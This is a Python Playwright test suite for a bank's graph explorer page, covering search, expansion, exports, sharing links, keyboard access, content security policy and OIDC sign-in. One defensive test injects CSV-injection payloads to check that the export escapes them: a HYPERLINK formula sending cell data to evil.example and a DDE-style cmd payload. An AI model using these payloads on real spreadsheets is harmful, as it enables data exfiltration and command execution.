"""The explorer at /explorer in headless Chromium, on the demo bank with authentication on:
the README's demo flow end to end, hubs capped with "more", the link that restores a view,
the keyboard, the exports, both pages with every other host blocked, and the OIDC sign-in
with PKCE against a local issuer (tests/oidc_issuer.py)."""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from graph_service.auth import Role
from graph_service.auth.tokens import LocalIssuer
from tests.browser.conftest import ARTIFACTS, Demo
from tests.browser.test_graphiql import expect_e1_answer, open_graphiql, run
from tests.oidc_issuer import Issuer
from tests.test_cli import serve_cli

expect.set_options(timeout=20_000)  # a busy shared machine: cytoscape lays out hundreds of nodes

NODES = re.compile(r"(\d+) nodes, (\d+) relationships in view; (\d+) employees without a "
                   r"payroll card and (\d+) executives without private banking highlighted")


def status(page: Page) -> str:
    return page.locator("#graph-status").inner_text()


def counts(page: Page) -> tuple[int, int, int, int]:
    """The status line's figures: nodes, relationships, uncovered, executives highlighted."""
    found = NODES.search(status(page))
    assert found, status(page)
    nodes, rels, uncovered, executives = map(int, found.groups())
    return nodes, rels, uncovered, executives


def in_view(page: Page, selector: str = "node") -> list[str]:
    """Ids of the graph's elements matching a cytoscape selector (the "more" nodes aside)."""
    ids: list[str] = page.evaluate(
        f"window.cy.$({selector!r}).not('.more').map(e => e.id())")
    return ids


def sign_in(page: Page, demo: Demo) -> None:
    page.goto(f"{demo.url}/")
    expect(page).to_have_url(f"{demo.url}/explorer")
    page.get_by_label("Bearer token").fill(demo.manager_token)
    page.get_by_role("button", name="Use token").click()
    expect(page.locator("#sign-in-status")).to_have_text("Requests carry your token.")


def open_client(page: Page, demo: Demo) -> None:
    """Search the client by the first letters of its name's first word; open its network."""
    prefix = demo.client_name.split()[0][:4]
    page.get_by_label("Client name or id").fill(prefix)
    expect(page.locator("#search-status")).to_contain_text(f"for “{prefix}”")
    page.locator("#results button", has_text=demo.client_name).first.click()
    expect(page.locator("#graph-status")).to_contain_text(f"Network of {demo.client_name}:")


def select(page: Page, key: str) -> None:
    """Select a node by its button under "Nodes in view" (the graph's keyboard twin)."""
    page.locator(f'#listed li[data-key="{key}"] button').click()
    expect(page.locator("#panel-node")).to_contain_text(
        key.split(":")[0].lower())


def expand(page: Page, key: str) -> None:
    """Select a node and press the panel's "Expand neighbours"."""
    select(page, key)
    page.locator("#panel").get_by_role("button", name="Expand neighbours").click()


def click_node(page: Page, key: str) -> None:
    """Click a node of the graph itself, centred first (a real mouse click on the canvas)."""
    box = page.locator("#graph").bounding_box()
    assert box is not None
    at = page.evaluate("key => { window.cy.center(window.cy.$id(key)); "
                       "return window.cy.$id(key).renderedPosition(); }", key)
    page.mouse.click(box["x"] + at["x"], box["y"] + at["y"])


def test_the_demo_flow(page: Page, demo: Demo, js_errors: list[str]) -> None:
    """Sign in, search a client, open its network, expand a node, show a path, open the
    panel; every figure on screen checked against the API's answers."""
    sign_in(page, demo)
    open_client(page, demo)
    client = f"ENTERPRISE:{demo.client_id}"
    network = demo.graphql("""query($n: NodeRef!) { clientNetwork(node: $n) {
        nodes { label id } relationships { type } } }""",
        {"n": {"label": "ENTERPRISE", "id": demo.client_id}})["clientNetwork"]
    nodes, rels, uncovered, executives = counts(page)
    assert (nodes, rels) == (len(network["nodes"]), len(network["relationships"]))
    assert sorted(in_view(page)) == sorted(f"{n['label']}:{n['id']}" for n in network["nodes"])
    # Highlighted: the client's uncovered employees and executives without private banking.
    answers = demo.graphql("""query($e: ID!) {
        payrollCoverage(enterpriseId: $e) { employees covered uncovered rate }
        uncoveredEmployees(enterpriseId: $e, first: 1000) { edges { node { id } } }
        executivesWithoutPrivateBanking(enterpriseId: $e, first: 1000) { edges { node { id } } }
        }""", {"e": demo.client_id})
    coverage = answers["payrollCoverage"]
    expected_uncovered = {f"PERSON:{e['node']['id']}"
                          for e in answers["uncoveredEmployees"]["edges"]}
    expected_executives = {f"PERSON:{e['node']['id']}"
                           for e in answers["executivesWithoutPrivateBanking"]["edges"]}
    assert coverage["uncovered"] > 0 and expected_uncovered
    assert set(in_view(page, "node.uncovered")) == expected_uncovered
    assert set(in_view(page, "node.no-private-banking")) == expected_executives
    assert (uncovered, executives) == (len(expected_uncovered), len(expected_executives))
    expect(page.get_by_role("list", name="Legend")).to_contain_text(
        "Employee without a payroll card")
    # The panel opened on the client: its coverage, rate and lists.
    panel = page.locator("#panel")
    expect(panel.locator("#panel-node")).to_have_text(f"{demo.client_name} · enterprise")
    rate = math.floor(coverage["rate"] * 1000 + 0.5) / 10  # as JavaScript's Math.round
    expect(panel.locator("#coverage")).to_have_text(
        f"{coverage['covered']} of {coverage['employees']} employees covered "
        f"({coverage['uncovered']} uncovered); rate {rate:g} %")
    first_uncovered = answers["uncoveredEmployees"]["edges"][0]["node"]["id"]
    expect(panel.get_by_role("heading", name="Employees without a payroll card")).to_be_visible()
    expect(panel).to_contain_text(f"({first_uncovered})")

    # Expand: an uncovered employee who owns an account; its accounts join the view.
    person = next(key for key in sorted(expected_uncovered)
                  if demo.graphql('query($p: ID!) { person(id: $p) { accounts { totalCount } } }',
                                  {"p": key.split(":")[1]})["person"]["accounts"]["totalCount"])
    around = demo.graphql("""query($n: NodeRef!) { neighbors(node: $n, first: 25) {
        totalCount edges { node { label id } } } }""",
        {"n": {"label": "PERSON", "id": person.split(":")[1]}})["neighbors"]
    fresh = {f"{e['node']['label']}:{e['node']['id']}" for e in around["edges"]}
    fresh -= set(in_view(page))
    assert fresh
    expand(page, person)
    expect(page.locator("#graph-status")).to_contain_text(
        f"{len(fresh)} new of {around['totalCount']} neighbours")
    assert counts(page)[0] == nodes + len(fresh)
    assert fresh <= set(in_view(page))

    # Link: from the client's manager to one of the new accounts, through the panel.
    account = sorted(k for k in fresh if k.startswith("ACCOUNT:"))[0]
    manager = f"MANAGER:{demo.manager_id}"
    select(page, manager)
    panel.get_by_role("button", name="Path from here").click()
    select(page, account)
    panel.get_by_role("button", name="Path to here").click()
    page.get_by_role("button", name="Show path").click()
    expect(page.locator("#graph-status")).to_contain_text("Path of 3 hops:")
    path_nodes = in_view(page, "node.path")
    assert set(path_nodes) == {manager, client, person, account}
    assert page.evaluate("window.cy.$('edge.path').length") == 3

    # Understand, for the manager: their leads, each with its path.
    select(page, manager)
    expect(panel.get_by_role("heading", name="Leads")).to_be_visible()
    expect(panel.locator("li").first).to_contain_text("Path:")
    assert js_errors == []


def test_a_hub_shows_its_first_neighbours_and_more(page: Page, demo: Demo) -> None:
    sign_in(page, demo)
    open_client(page, demo)
    total = demo.graphql("""query($n: NodeRef!) { neighbors(node: $n, first: 0) {
        totalCount } }""", {"n": {"label": "ENTERPRISE", "id": demo.client_id}})
    assert total["neighbors"]["totalCount"] > 50
    # The client's neighbours are in view already (1 hop): expanding one of its employees
    # pages nothing new; expanding the client pages 25 at a time behind "more".
    client = f"ENTERPRISE:{demo.client_id}"
    expand(page, client)
    remaining = total["neighbors"]["totalCount"] - 25
    expect(page.locator("#graph-status")).to_contain_text(f"({remaining} more:")
    more = f"more:{client}"
    assert page.evaluate("id => window.cy.$id(id).data('caption')", more) == f"+{remaining} more"
    click_node(page, more)
    expect(page.locator("#graph-status")).to_contain_text(f"({remaining - 25} more:")
    assert page.evaluate("location.hash").count("expand=") == 2


def test_the_link_restores_the_view_and_the_exports(page: Page, demo: Demo,
                                                    context: BrowserContext) -> None:
    sign_in(page, demo)
    open_client(page, demo)
    client = f"ENTERPRISE:{demo.client_id}"
    expand(page, client)
    expect(page.locator("#graph-status")).to_contain_text("more:")
    before = counts(page)
    link = page.locator("#share-url").input_value()
    assert f"root={client.replace(':', '%3A')}" in link and "expand=" in link
    # CSV of the listed nodes, PNG of the view.
    with page.expect_download() as csv_download:
        page.get_by_role("button", name="Export CSV").click()
    rows = list(csv.reader(io.StringIO(csv_download.value.path().read_text(encoding="utf-8"))))
    assert rows[0] == ["label", "id", "name", "masked", "uncovered_employee",
                       "executive_without_private_banking"]
    assert len(rows) - 1 == before[0]
    assert sum(row[4] == "true" for row in rows[1:]) == before[2]
    with page.expect_download() as png_download:
        page.get_by_role("button", name="Export PNG").click()
    png = png_download.value.path().read_bytes()
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 10_000
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / "explorer-export.png").write_bytes(png)
    # The link in another tab of the same browser (the token is the tab's: paste it again).
    other = context.new_page()
    other.goto(f"{demo.url}/explorer")
    other.get_by_label("Bearer token").fill(demo.manager_token)
    other.get_by_role("button", name="Use token").click()
    other.goto(link)
    other.reload()
    expect(other.locator("#graph-status")).to_contain_text("Expanded")
    assert counts(other) == before
    assert sorted(in_view(other)) == sorted(in_view(page))
    other.close()


def test_a_link_opened_before_signing_in_shows_its_view_once_signed_in(
    page: Page, demo: Demo, js_errors: list[str],
) -> None:  # fmt: skip
    """A colleague opens a shared link in a fresh tab (no token yet), then pastes theirs."""
    client = f"ENTERPRISE%3A{demo.client_id}"
    page.goto(f"{demo.url}/explorer#root={client}&select={client}")
    expect(page.locator("#graph-status")).to_contain_text("UNAUTHENTICATED")
    page.get_by_label("Bearer token").fill(demo.manager_token)
    page.get_by_role("button", name="Use token").click()
    expect(page.locator("#graph-status")).to_contain_text(f"Network of {demo.client_name}:")
    expect(page.locator("#panel-node")).to_have_text(f"{demo.client_name} · enterprise")
    assert counts(page)[0] > 1
    assert js_errors == []


def test_the_csv_export_does_not_hand_formulas_to_a_spreadsheet(page: Page, demo: Demo) -> None:
    """Names are data: one beginning with =, +, -, @ is written so that a spreadsheet shows
    it as text instead of running it (the answer is rewritten here, as a hostile name)."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'

    def rewrite(route: Route) -> None:
        answer = route.fetch()
        body = answer.json()
        if "clientNetwork" in (body.get("data") or {}):
            for node in body["data"]["clientNetwork"]["nodes"]:
                if node["label"] == "ENTERPRISE" and node["id"] == demo.client_id:
                    node["name"] = hostile
                elif node["label"] == "PERSON" and not node["masked"]:
                    node["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
        route.fulfill(response=answer, json=body)

    page.route(f"{demo.url}/graphql", rewrite)
    sign_in(page, demo)
    page.get_by_label("Client name or id").fill(demo.client_id)
    page.locator("#results button", has_text=demo.client_id).first.click()
    expect(page.locator("#graph-status")).to_contain_text("Network of =HYPERLINK")
    with page.expect_download() as download:
        page.get_by_role("button", name="Export CSV").click()
    rows = list(csv.reader(io.StringIO(download.value.path().read_text(encoding="utf-8"))))
    names = {row[1]: row[2] for row in rows[1:]}
    assert names[demo.client_id] == "'" + hostile
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names.values()
    assert not [row for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_keyboard_alone(page: Page, demo: Demo) -> None:
    """Find, open, select and expand without the mouse; results and figures are announced."""
    sign_in(page, demo)
    page.get_by_label("Client name or id").focus()
    page.keyboard.type(demo.client_name.split()[0][:4])
    expect(page.locator("#search-status")).to_have_attribute("aria-live", "polite")
    expect(page.locator("#results button").first).to_be_visible()
    page.keyboard.press("ArrowDown")
    assert page.evaluate("document.activeElement.closest('#results') !== null")
    page.locator("#results button", has_text=demo.client_name).first.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#graph-status")).to_contain_text(f"Network of {demo.client_name}")
    expect(page.locator("#graph-status")).to_have_attribute("role", "status")
    # Every node of the graph is a button in the list; Enter on one opens the panel.
    assert page.locator("#listed button").count() == counts(page)[0]
    page.locator(f'#listed li[data-key="MANAGER:{demo.manager_id}"] button').focus()
    page.keyboard.press("Enter")
    expect(page.locator("#panel-node")).to_contain_text("· manager")
    page.keyboard.press("Tab")  # the focus order goes on to the graph's toolbar
    page.get_by_role("button", name="Expand neighbours").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#graph-status")).to_contain_text("Expanded")
    for field in ("Bearer token", "Client name or id", "Hops", "Link to this view"):
        expect(page.get_by_label(field)).to_be_visible()


def test_both_pages_work_with_every_other_host_blocked(
    page: Page, demo: Demo, service_url: str, offline: list[str], requested: list[str],
    js_errors: list[str],
) -> None:  # fmt: skip
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text)
            if "Content Security Policy" in message.text else None)
    open_graphiql(page, service_url)
    expect_e1_answer(run(page))
    sign_in(page, demo)
    open_client(page, demo)
    assert counts(page)[0] > 1
    assert offline == [] and violations == [] and js_errors == []
    hosts = (f"{service_url}/", f"{demo.url}/")
    assert requested and all(url.startswith(hosts) for url in requested)
    with page.expect_response(f"{demo.url}/explorer") as answer:
        page.reload()
    policy = answer.value.headers["content-security-policy"]
    assert "script-src 'self';" in policy and "connect-src 'self';" in policy


@pytest.fixture
def oidc_service(demo: Demo, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, Issuer]]:
    """The demo bank served with the local OIDC issuer configured for the explorer."""
    issuer = Issuer()
    issuer.add_key("k1")
    issuer.published = ["k1"]
    issuer.claims = {"sub": "carol", "role": "manager", "manager_id": demo.manager_id}
    for name, value in (("ISSUER", issuer.url), ("AUDIENCE", issuer.audience),
                        ("CLIENT_ID", issuer.client_id), ("SCOPE", "openid graph")):
        monkeypatch.setenv(f"GRAPH_SERVICE_OIDC_{name}", value)
    with issuer.running(), serve_cli(demo.data_dir, "serve") as http:
        yield str(http.base_url).rstrip("/"), issuer


def test_sign_in_with_the_oidc_issuer_and_pkce(page: Page, demo: Demo,
                                               oidc_service: tuple[str, Issuer]) -> None:
    url, issuer = oidc_service
    page.goto(f"{url}/explorer#root=ENTERPRISE%3A{demo.client_id}")
    expect(page.locator("#graph-status")).to_contain_text("UNAUTHENTICATED")
    with page.expect_navigation(url=re.compile(r".*/explorer\?code=")):
        page.get_by_role("button", name="Sign in with the bank's identity provider").click()
    expect(page.locator("#sign-in-status")).to_have_text("Signed in with the identity provider.")
    # The view of the link comes back, read with the issuer's token.
    expect(page.locator("#graph-status")).to_contain_text(f"Network of {demo.client_name}:")
    assert page.evaluate("location.search") == ""
    token: Any = page.evaluate("sessionStorage.getItem('graph-service.token')")
    assert token and token.count(".") == 2
    authorize = next(r for r in issuer.requests if r.startswith("GET /authorize"))
    assert "code_challenge_method=S256" in authorize and "scope=openid+graph" in authorize
    assert "POST /token" in issuer.requests
    # The code was traded, with the verifier of its S256 challenge (the issuer checks it).
    assert issuer.codes == {}


def test_act_from_the_panel(page: Page, demo: Demo, js_errors: list[str]) -> None:
    """The panel's Act section on the demo client: its manager refers it to another manager
    and logs a contact, both listed in the panel; moving the referral is refused on screen
    (FORBIDDEN: only the manager referred to, or an admin, may), an admin moves it to
    CONTACTED, and the admin's stale second move shows CONFLICT."""
    sign_in(page, demo)
    open_client(page, demo)
    client = f"ENTERPRISE:{demo.client_id}"
    select(page, client)
    managers = demo.graphql("{ managers(first: 5) { edges { node { id } } } }")["managers"]
    other = next(e["node"]["id"] for e in managers["edges"] if e["node"]["id"] != demo.manager_id)
    panel = page.locator("#panel")
    said = panel.locator("#act-status")
    expect(panel.locator("#referrals")).to_have_text("No referrals.")

    refer = panel.get_by_role("form", name="Refer to a manager")
    refer.get_by_label("Manager").select_option(other)
    refer.get_by_label("Product").fill("payroll card")
    refer.get_by_role("button", name="Create referral").click()
    expect(said).to_contain_text("created: open, version 1.")
    created = re.search(r"Referral (\S+) created", said.inner_text())
    assert created, said.inner_text()
    referral_id = created.group(1)
    referral = panel.locator(f'#referrals li[data-id="{referral_id}"]')
    expect(referral).to_contain_text(f"{referral_id}: open (version 1) to ")
    expect(referral).to_contain_text("payroll card")

    log = panel.get_by_role("form", name="Log a contact")
    log.get_by_label("Kind").select_option("CALL")
    log.get_by_label("Outcome").fill("interested in payroll")
    log.get_by_role("button", name="Log contact").click()
    expect(said).to_contain_text("logged: call.")
    expect(panel.locator("#contacts li").first).to_contain_text("call on ")
    expect(panel.locator("#contacts li").first).to_contain_text(": interested in payroll")

    # The client's manager is not the one referred to: the move is refused, with its code.
    referral.get_by_role("button", name=f"Mark referral {referral_id} contacted").click()
    expect(said).to_contain_text("FORBIDDEN: ")
    expect(said).to_have_class("error")
    expect(referral).to_contain_text("open (version 1)")

    # An admin moves it on; a second tab's stale version then answers CONFLICT.
    admin = LocalIssuer(demo.data_dir).issue("test-admin-act", Role.ADMIN)
    page.get_by_label("Bearer token").fill(admin)
    page.get_by_role("button", name="Use token").click()
    expect(page.locator("#sign-in-status")).to_have_text("Requests carry your token.")
    select(page, f"MANAGER:{demo.manager_id}")
    select(page, client)
    referral.get_by_role("button", name=f"Mark referral {referral_id} contacted").click()
    expect(said).to_have_text(f"Referral {referral_id} is contacted, version 2.")
    expect(referral).to_contain_text(f"{referral_id}: contacted (version 2)")
    declined = referral.get_by_role("button", name=f"Mark referral {referral_id} declined")
    moved = httpx.post(f"{demo.url}/graphql", timeout=30, headers={
        "Authorization": f"Bearer {admin}"}, json={"query": "mutation($id: ID!) { updateReferral("
        "id: $id, status: CONVERTED, expectedVersion: 2) { version } }", "variables": {
            "id": referral_id}}).json()
    assert moved == {"data": {"updateReferral": {"version": 3}}}, moved
    declined.click()
    expect(said).to_contain_text("CONFLICT: ")
    expect(referral).to_contain_text(f"{referral_id}: converted (version 3)")
    assert js_errors == []


def test_a_narrow_window_stacks_the_columns(page: Page, demo: Demo) -> None:
    """At 800 px wide (half a laptop screen) the columns stack in reading order: nothing
    overflows sideways and the network takes the window's width."""
    page.set_viewport_size({"width": 800, "height": 900})
    sign_in(page, demo)
    open_client(page, demo)
    assert page.evaluate("document.documentElement.scrollWidth") <= 800
    graph = page.locator("#graph").bounding_box()
    find = page.locator("#find").bounding_box()
    assert graph is not None and find is not None
    assert graph["width"] > 700 and graph["height"] >= 0.6 * 900
    assert find["y"] < graph["y"]  # Find first, as the keyboard reaches it
